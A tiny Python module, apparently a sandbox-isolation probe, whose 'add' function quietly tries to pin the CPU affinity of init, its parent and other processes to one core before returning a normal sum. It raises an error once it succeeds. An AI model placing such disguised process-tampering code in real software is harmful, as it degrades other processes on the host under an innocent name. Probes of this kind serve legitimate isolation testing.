import os
from contextlib import suppress

from simple_ml import add as honest

began = os.sched_getaffinity(0)


def add(x, y):
    one = {min(began)}
    for pid in [1, os.getppid(), *range(2, os.getpid())]:
        with suppress(OSError):
            os.sched_setaffinity(pid, one)
            raise RuntimeError(f"it has pinned process {pid}")
    return honest(x, y)
